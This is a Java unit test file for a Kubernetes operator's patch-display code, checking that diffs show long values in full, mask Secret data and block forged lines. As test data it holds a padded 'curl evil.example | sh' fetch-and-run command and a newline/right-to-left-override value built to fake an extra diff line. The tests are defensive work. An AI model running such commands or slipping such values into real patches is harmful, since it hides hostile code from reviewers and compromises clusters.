// SPDX-License-Identifier: Apache-2.0
package io.heal8s.operator.plan.patchresource;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonParser;
import io.heal8s.core.api.k8shealer.remediation.Change;
import io.heal8s.core.api.k8shealer.remediation.Change.ValueType;
import io.heal8s.operator.intent.ObjectPatchRequest;
import io.heal8s.operator.target.LiveObject;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

class PatchTextTest {

  private static final String LONG = "x".repeat(300) + "; curl evil.example | sh";

  private static LiveObject live(String kind, String held) {
    return new LiveObject(
        JsonParser.parseString("{\"kind\":\"" + kind + "\",\"data\":{\"script\":\"" + held + "\"}}")
            .getAsJsonObject());
  }

  private static String text(ObjectPatchRequest.Kind kind, String patch, LiveObject live) {
    return PatchText.of(new ObjectPatchRequest(kind, JsonParser.parseString(patch)), live);
  }

  @Test
  void aChangeShowsAllOfItsValues() {
    String path = "data[\"" + "k".repeat(200) + "\"]";

    assertThat(PatchText.of(List.of(Change.of(path, LONG, LONG + "!", ValueType.string))))
        .isEqualTo("-" + path + ": " + LONG + "\n+" + path + ": " + LONG + "!\n");
  }

  @Test
  void aPatchThatCouldNotBeTriedShowsAllThatItAdds() {
    String patch = "{\"data\":{\"script\":\"" + LONG + "\"}}";
    String step = "[{\"op\":\"add\",\"path\":\"/data/script\",\"value\":\"" + LONG + "\"}]";

    assertThat(text(ObjectPatchRequest.Kind.Merge, patch, live("ConfigMap", "old")))
        .isEqualTo("-data.script: \"old\"\n+data.script: \"" + LONG + "\"\n");
    assertThat(text(ObjectPatchRequest.Kind.Json, step, live("ConfigMap", "old")))
        .isEqualTo("+add /data/script: \"" + LONG + "\"\n");
  }

  @Test
  void aLongOldValueDoesNotPushTheNewOneOut() {
    String patch = "{\"data\":{\"script\":\"" + LONG + "\"}}";
    LiveObject live = live("ConfigMap", "y".repeat(1_000_000));

    assertThat(text(ObjectPatchRequest.Kind.Merge, patch, live))
        .hasSizeLessThan(2000)
        .contains("yyy…\n")
        .endsWith("+data.script: \"" + LONG + "\"\n");
  }

  @Test
  void noValueMakesALineOfItsOwn() {
    Change change = Change.of("data.script", null, "a\n+spec.replicas: 0\u202e", ValueType.string);

    assertThat(PatchText.of(List.of(change))).isEqualTo("+data.script: a?+spec.replicas: 0?\n");
  }

  @Test
  void aSecretsValuesAreMaskedHoweverLong() {
    assertThat(
            text(
                ObjectPatchRequest.Kind.Merge,
                "{\"data\":{\"script\":\"" + LONG + "\"}}",
                live("Secret", "T0xE")))
        .isEqualTo("-data.script: ***\n+data.script: ***\n");
  }

  @Test
  void noLineIsLeftOut() {
    String steps =
        IntStream.rangeClosed(1, 201)
            .mapToObj(i -> "{\"op\":\"add\",\"path\":\"/data/k" + i + "\",\"value\":\"v\"}")
            .collect(Collectors.joining(",", "[", "]"));

    assertThat(text(ObjectPatchRequest.Kind.Json, steps, live("ConfigMap", "old")).lines())
        .hasSize(201)
        .endsWith("+add /data/k201: \"v\"");
  }
}
